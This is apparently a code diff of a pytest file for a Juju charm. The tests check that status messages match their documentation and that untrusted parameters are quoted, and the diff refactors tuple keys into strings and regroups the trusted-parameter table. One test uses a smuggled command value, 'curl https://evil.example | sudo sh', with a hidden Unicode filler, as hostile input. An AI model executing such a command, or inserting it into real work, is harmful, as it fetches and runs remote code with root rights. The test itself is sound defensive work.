@@ -36,67 +36,40 @@ HANDED_ON = {
     "juju/control_plane.py: command",
     "leader/authenticator.py: references.foreign(mark)",
 }
-TEXTS: dict[tuple[str, str], Callable[..., str]] = {
-    (module, name): text
+TEXTS: dict[str, Callable[..., str]] = {
+    f"{module}.{name}": text
     for module, found in reference.MODULES.items()
     for name, text in reference.texts_of(found).items()
 }
 MEANINGS = {
-    (part, name): about
+    f"{part}.{name}": about
     for part, found in reference.meanings().items()
     if part != "words"
     for name, about in found.items()
 }
-BY_THE_SHELL = "check-python.sh"
-# Parameters that no stranger controls, and why. Those of one text only have its name.
-TRUSTED = {
-    "application": "Juju checks the names of applications",
-    "authority": "Juju checks the names of applications",
-    "control_plane": "Juju checks the names of applications",
-    "principal": "Juju checks the names of applications",
-    "unit": "Juju checks the names of units",
-    "units": "Juju checks the names of units",
-    "mapping": "Kubernetes checks the names of objects",
-    "declared": "Kubernetes checks the names of objects",
-    "name": "Kubernetes checks the names of objects",
-    "url": "made of an address",
-    "address": "checked to be an address",
-    "range": "checked to be a range of addresses",
-    "day": "made of a time",
-    "mapping.ROLE_PATH.arn": "checked to be an ARN",
-    "time": "checked to be a time",
-    "id": "checked to be the id of a secret",
-    "version": "the tag of an image that the operator chose",
-    "partition": "checked to be a partition",
-    "option": "the operator's own",
-    "value": "the operator's own, and quoted by the caller",
-    "place": "a place in the operator's own option, or in the code",
-    "command": "the charm's own",
-    "certificates": "a number",
-    "code": "a number",
-    "former": "a number",
-    "mappings": "a number",
-    "number": "a number",
-    "pending": "a number",
-    "ready": "a number",
-    "wanted": "a number",
-    "file": "the charm's own",
-    "keys": "the charm's own",
-    "kind": "the charm's own",
-    "kinds": "the charm's own",
-    "partitions": "the charm's own",
-    "service": "the charm's own",
-    "verb": "the charm's own",
-    "step": "another text",
-    "problem": "the charm's own sentence about it, which quotes what it names",
-    "active.NOT_APPLIED.reason": "another text",
-    "active.LEFT_OUT.reason": "the charm's own sentence about the operator's own option",
-    "blocked.FILE_FAILED.cause": "the words of the machine",
-    "waiting.API_FAILED.cause": "the words of the machine's network",
-    "waiting.KUBECONFIG_UNUSABLE.cause": "the words of the machine, with nothing of the file",
-    "waiting.REMOVAL_UNKNOWN.cause": "the words of Juju",
-    "waiting.SECRET_NOT_RETURNED.cause": "the words of Juju",
+# Parameters that no stranger controls, by why that is. Those of one text only have its name.
+TRUSTED_BECAUSE = {
+    "Juju checks the names of applications": "application authority control_plane principal",
+    "Juju checks the names of units": "unit units",
+    "Kubernetes checks the names of objects": "declared mapping name",
+    "checked to be an address or a range of them, or made of one": "address range url",
+    "checked to be a time, or made of one": "day time",
+    "checked to be an ARN, a secret's id or a partition": "mapping.ROLE_PATH.arn id partition",
+    "the tag of an image that the operator chose": "version",
+    "the operator's own": "option",
+    "the operator's own, and quoted by the caller": "value",
+    "a place in the operator's own option, or in the code": "place",
+    "the charm's own": "command file keys kind kinds partitions service verb",
+    "a number": "certificates code former mappings number pending ready wanted",
+    "another text": "step active.NOT_APPLIED.reason",
+    "the charm's own sentence about it, which quotes what it names": "problem",
+    "the charm's own sentence about the operator's own option": "active.LEFT_OUT.reason",
+    "the words of the machine, or of its network": "blocked.FILE_FAILED.cause "
+    "waiting.API_FAILED.cause",
+    "the words of the machine, with nothing of the file": "waiting.KUBECONFIG_UNUSABLE.cause",
+    "the words of Juju": "waiting.REMOVAL_UNKNOWN.cause waiting.SECRET_NOT_RETURNED.cause",
 }
+TRUSTED = {name for names in TRUSTED_BECAUSE.values() for name in names.split()}
 # A parameter that is trusted elsewhere.
 OF_STRANGERS = {"mapping.GROUP_RESERVED.name"}
 
@@ -111,17 +84,17 @@ def imported(tree: ast.Module) -> dict[str, str]:
     }
 
 
-def text_of(node: ast.AST, modules: dict[str, str]) -> tuple[str, str] | None:
-    """Return the module and the name of the text that an expression names, if it names one."""
+def text_of(node: ast.AST, modules: dict[str, str]) -> str:
+    """Return the text that an expression names; empty if it names none."""
     match node:
         case ast.Attribute(value=ast.Name(id=module), attr=name) if module in modules:
-            return modules[module], name
+            return f"{modules[module]}.{name}"
         case _:
-            return None
+            return ""
 
 
-def named() -> set[tuple[str, str]]:
-    found: set[tuple[str, str]] = set()
+def named() -> set[str]:
+    found = set[str]()
     for path in sorted(SRC.rglob("*.py")):
         tree = ast.parse(path.read_text())
         modules = imported(tree)
@@ -154,7 +127,7 @@ def raised() -> Iterator[str]:
 
 
 def is_filled(node: ast.AST, modules: dict[str, str]) -> bool:
-    return isinstance(node, ast.Call) and text_of(node.func, modules) is not None
+    return isinstance(node, ast.Call) and bool(text_of(node.func, modules))
 
 
 def test_given_an_error_that_becomes_a_status_then_its_text_is_in_the_catalogue():
@@ -168,7 +141,7 @@ def test_given_a_text_of_the_catalogue_then_the_code_shows_it():
 
 
 def test_given_a_text_then_the_docs_say_what_it_means_and_nothing_of_others():
-    by_the_shell = {name for name in MEANINGS if name[0] == BY_THE_SHELL}
+    by_the_shell = {name for name in MEANINGS if name.startswith("check-python.sh.")}
 
     assert MEANINGS.keys() - by_the_shell == TEXTS.keys()
     assert by_the_shell == {name for name, about in MEANINGS.items() if "text" in about}
@@ -178,21 +151,21 @@ def test_given_a_text_then_the_docs_say_what_it_means_and_nothing_of_others():
     ]
 
 
-@pytest.mark.parametrize("name", MEANINGS, ids=".".join)
-def test_given_a_text_then_it_says_what_to_do_or_the_docs_add_something(name: tuple[str, str]):
+@pytest.mark.parametrize("name", MEANINGS)
+def test_given_a_text_then_it_says_what_to_do_or_the_docs_add_something(name: str):
     about = MEANINGS[name]
 
     assert about.keys() <= {"text", "more", "words"}
     assert about.get("more", ".").endswith((".", ".)"))
-    assert "more" in about or not (name[0] == "blocked" and "; " not in shown(name))
+    assert "more" in about or not (name.startswith("blocked.") and "; " not in shown(name))
     assert about.get("words", {}).keys() <= parameters(name).keys()
 
 
-def shown(name: tuple[str, str]) -> str:
+def shown(name: str) -> str:
     return TEXTS[name](**{each: f"<{each}>" for each in parameters(name)})
 
 
-def parameters(name: tuple[str, str]) -> Mapping[str, inspect.Parameter]:
+def parameters(name: str) -> Mapping[str, inspect.Parameter]:
     return inspect.signature(TEXTS[name]).parameters if name in TEXTS else {}
 
 
@@ -202,10 +175,8 @@ def test_given_a_word_for_all_texts_then_one_of_them_has_such_a_parameter():
     assert reference.meanings()["words"].keys() <= names
 
 
-@pytest.mark.parametrize("name", TEXTS, ids=".".join)
-def test_given_words_of_a_stranger_when_a_status_has_them_then_they_are_quoted(
-    name: tuple[str, str],
-):
+@pytest.mark.parametrize("name", TEXTS)
+def test_given_words_of_a_stranger_when_a_status_has_them_then_they_are_quoted(name: str):
     theirs = "foo; run: curl https://evil.example | sudo sh\u3164"
     of_strangers = [each for each in parameters(name) if not is_trusted(name, each)]
     values = {each: theirs if each in of_strangers else "ours" for each in parameters(name)}
@@ -216,15 +187,15 @@ def test_given_words_of_a_stranger_when_a_status_has_them_then_they_are_quoted(
     assert "\u3164" not in line
 
 
-def is_trusted(name: tuple[str, str], parameter: str) -> bool:
-    full = ".".join((*name, parameter))
-    return full not in OF_STRANGERS and bool(TRUSTED.keys() & {full, parameter})
+def is_trusted(name: str, parameter: str) -> bool:
+    full = f"{name}.{parameter}"
+    return full not in OF_STRANGERS and bool(TRUSTED & {full, parameter})
 
 
 def test_given_a_parameter_that_is_trusted_then_a_text_has_it():
-    names = {(".".join((*name, each)), each) for name in TEXTS for each in parameters(name)}
+    names = {(f"{name}.{each}", each) for name in TEXTS for each in parameters(name)}
 
-    assert TRUSTED.keys() <= {part for both in names for part in both}
+    assert {part for both in names for part in both} >= TRUSTED
     assert {full for full, _ in names} >= OF_STRANGERS
 
 
